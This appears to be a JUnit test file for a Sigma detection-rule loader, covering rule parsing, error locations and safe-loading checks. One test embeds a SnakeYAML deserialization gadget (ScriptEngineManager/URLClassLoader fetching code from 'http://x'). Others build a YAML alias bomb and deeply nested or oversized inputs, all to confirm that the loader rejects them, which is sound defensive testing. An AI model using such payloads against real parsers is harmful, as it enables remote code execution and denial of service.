package org.gamekeeper.sigma;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.gamekeeper.sigma.rule.RuleProblem;
import org.gamekeeper.sigma.rule.SigmaRule;
import org.gamekeeper.sigma.rule.Status;
import org.junit.jupiter.api.Test;

/** Safe loading, error places and collection of every problem. */
class LoadingTest {

    private static final String HEAD = "title: t\nlogsource:\n    product: windows\n";

    @Test
    void readsEveryFieldOfTheRuleModel() {
        RuleSet set = Rules.set("""
                title: Whoami
                id: 11111111-2222-3333-4444-555555555555
                name: whoami_exec
                related:
                    - id: 22222222-2222-3333-4444-555555555555
                      type: derived
                taxonomy: sigma
                status: test
                description: runs whoami
                references:
                    - https://example.org
                author: someone
                date: 2024-01-02
                modified: 2024-02-03
                tags:
                    - attack.discovery
                    - attack.t1033
                logsource:
                    category: process_creation
                    product: windows
                    service: sysmon
                    definition: needs Sysmon
                detection:
                    sel:
                        Image|endswith: '\\whoami.exe'
                    condition: sel
                fields:
                    - CommandLine
                falsepositives:
                    - admins
                level: high
                scope:
                    - server
                """);
        assertEquals(List.of(), set.problems());
        SigmaRule r = set.rules().get(0);
        var m = r.metadata();
        assertEquals("Whoami", m.title());
        assertEquals("whoami_exec", m.name());
        assertEquals("derived", m.related().get(0).type());
        assertEquals(Status.TEST, m.status());
        assertEquals("2024-01-02", m.date());
        assertEquals(List.of("attack.discovery", "attack.t1033"), m.tags());
        assertEquals("needs Sysmon", r.logSource().definition());
        assertEquals(List.of("CommandLine"), m.fields());
        assertEquals(List.of("server"), m.scope());
        assertEquals("high", m.level().id());
    }

    @Test
    void duplicateKeysAreRejectedWithBothPlaces() {
        RuleSet set = Rules.set(HEAD + "detection:\n    sel:\n        A: 1\n        A: 2\n    condition: sel\n");
        RuleProblem p = set.problems().get(0);
        assertEquals(7, p.location().line());
        assertEquals(9, p.location().column());
        assertTrue(p.message().contains("duplicate key 'A'") && p.message().contains("line 6"), p.message());
    }

    @Test
    void problemsCarryFileLineAndColumn() {
        RuleSet set = Rules.set(HEAD + "detection:\n    sel:\n        Image|endwith: x\n    condition: sel\n");
        RuleProblem p = set.problems().get(0);
        assertEquals("test.yml:6:9", p.location().toString());
        assertTrue(p.message().contains("did you mean 'endswith'"), p.message());
    }

    @Test
    void everyProblemOfADocumentIsCollectedNotOnlyTheFirst() {
        RuleSet set = Rules.set("logsource:\n    product: windows\nstatus: sable\nlevel: hihg\ndetection:\n    a:\n        F|foo: 1\n    b:\n"
                + "        G|bar: 2\n    condition: a and b\n");
        List<String> messages = set.problems().stream().map(RuleProblem::message).toList();
        assertEquals(5, messages.size(), messages.toString());
        assertTrue(messages.get(0).contains("title"), messages.toString());
        assertTrue(messages.get(0).contains("title"));
        assertTrue(messages.get(1).contains("'sable'") && messages.get(1).contains("stable"), messages.get(1));
        assertTrue(messages.get(2).contains("'hihg'") && messages.get(2).contains("high"));
        assertTrue(messages.get(3).contains("'foo'"));
        assertTrue(messages.get(4).contains("'bar'"));
    }

    @Test
    void aConditionNamingAFailedIdentifierIsNotReportedTwice() {
        List<RuleProblem> p = Rules.problems("sel:\n    F|foo: 1\ncondition: sel");
        assertEquals(1, p.size(), p.toString());
    }

    @Test
    void aConditionErrorPointsIntoTheConditionText() {
        RuleProblem p = Rules.problems("sel:\n    F: 1\ncondition: sel and selx").get(0);
        assertEquals(7, p.location().line());
        assertEquals(16 + 8, p.location().column());
        assertTrue(p.message().contains("did you mean 'sel'"), p.message());
    }

    @Test
    void aRuleSetCollectsProblemsOfEveryFileAndKeepsTheGoodOnes() {
        Map<String, String> files = new LinkedHashMap<>();
        files.put("good.yml", HEAD + "detection:\n    sel:\n        F: 1\n    condition: sel\n");
        files.put("bad1.yml", HEAD + "detection:\n    sel:\n        F|x: 1\n    condition: sel\n");
        files.put("bad2.yml", "title: [unclosed\n");
        RuleSet set = RuleSet.read(files, LoadOptions.defaults());
        assertEquals(1, set.loaded());
        assertEquals(2, set.failed());
        assertTrue(set.problems().get(1).toString().startsWith("bad2.yml:"), set.problems().toString());
    }

    @Test
    void aFileThatIsNotUtf8IsAProblemOfThatFileOnly(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws java.io.IOException {
        java.nio.file.Files.write(dir.resolve("bad.yml"), new byte[] {'t', 'i', 't', 'l', 'e', ':', ' ', (byte) 0xff, (byte) 0xfe, '\n'});
        java.nio.file.Files.writeString(dir.resolve("good.yml"), HEAD + "detection:\n    sel:\n        F: 1\n    condition: sel\n");
        RuleSet set = RuleSet.load(List.of(dir), LoadOptions.defaults());
        assertEquals(1, set.loaded());
        assertEquals(1, set.failed());
        assertTrue(set.problems().get(0).toString().endsWith("bad.yml: not UTF-8 text"), set.problems().toString());
    }

    @Test
    void yamlTagsCannotConstructObjects() {
        RuleSet set = Rules.set("title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"
                + HEAD.substring(HEAD.indexOf('\n') + 1) + "detection:\n    sel:\n        F: 1\n    condition: sel\n");
        assertFalse(set.problems().isEmpty(), "a tagged title is a list, not text");
    }

    @Test
    void aliasBombsAreStopped() {
        StringBuilder y = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'k'; c++) {
            y.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 10; i++) {
                y.append(i == 0 ? "" : ", ").append('*').append(prev);
            }
            y.append("]\n");
            prev = c;
        }
        RuleSet set = Rules.set(y.toString());
        assertEquals(1, set.failed());
        assertTrue(set.problems().get(0).message().toLowerCase().contains("alias")
                || set.problems().get(0).message().contains("nodes"), set.problems().toString());
    }

    @Test
    void anOversizedFileIsStopped() {
        RuleSet set = Rules.set("title: t\ndescription: '" + "x".repeat(1100 * 1024) + "'\n");
        assertEquals(1, set.failed());
        assertTrue(set.problems().get(0).message().startsWith("YAML"), set.problems().get(0).message());
    }

    @Test
    void deepNestingIsStopped() {
        RuleSet set = Rules.set("title: " + "[".repeat(200) + "]".repeat(200) + "\n");
        assertTrue(set.problems().get(0).message().contains("nested deeper"), set.problems().toString());
    }

    @Test
    void actionGlobalIsMergedIntoEachFollowingDocumentUntilReset() {
        RuleSet set = Rules.set("""
                action: global
                title: shared
                logsource:
                    product: windows
                detection:
                    condition: sel
                ---
                id: one
                detection:
                    sel:
                        F: 1
                ---
                id: two
                detection:
                    sel:
                        F: 2
                ---
                action: reset
                ---
                title: alone
                id: three
                logsource:
                    product: linux
                detection:
                    x:
                        G: 3
                    condition: x
                """);
        assertEquals(List.of(), set.problems());
        assertEquals(List.of("one", "two", "three"), set.rules().stream().map(r -> r.metadata().id()).toList());
        assertEquals("shared", set.rules().get(1).metadata().title());
        assertEquals("alone", set.rules().get(2).metadata().title());
    }

    @Test
    void actionRepeatTakesThePreviousDocumentAndOverridesIt() {
        RuleSet set = Rules.set(HEAD + "id: a\ndetection:\n    sel:\n        F: 1\n    condition: sel\n---\naction: repeat\nid: b\nlogsource:\n    product: linux\n");
        assertEquals(List.of(), set.problems());
        assertEquals("linux", set.rules().get(1).logSource().product());
        assertEquals("b", set.rules().get(1).metadata().id());
    }

    @Test
    void statusSelectionSkipsRulesAndCountsWhy() {
        Map<String, String> files = new LinkedHashMap<>();
        files.put("a.yml", HEAD + "status: deprecated\ndetection:\n    sel:\n        F: 1\n    condition: sel\n");
        files.put("b.yml", HEAD + "status: stable\ndetection:\n    sel:\n        F: 1\n    condition: sel\n");
        files.put("c.yml", HEAD + "status: unsupported\ndetection:\n    sel:\n        F: 1\n    condition: sel\n");
        RuleSet set = RuleSet.read(files, LoadOptions.defaults());
        assertEquals(1, set.loaded());
        assertEquals(2, set.skipped());
        assertEquals(Map.of("status deprecated", 1, "status unsupported", 1), set.skippedReasons());
    }

    @Test
    void duplicateIdsAreAProblemOfTheSecondDocument() {
        RuleSet set = Rules.set(HEAD + "id: x\ndetection:\n    s:\n        F: 1\n    condition: s\n---\n" + HEAD + "id: x\ndetection:\n    s:\n        F: 1\n    condition: s\n");
        assertEquals(1, set.failed());
        assertTrue(set.problems().get(0).message().contains("duplicate rule id x"));
    }

    @Test
    void obsoleteAggregationsAreRejectedWithAPointerToCorrelations() {
        List<RuleProblem> p = Rules.problems("sel:\n    F: 1\ntimeframe: 5m\ncondition: sel | count() > 5");
        assertTrue(p.stream().allMatch(x -> x.message().contains("correlation")), p.toString());
    }
}
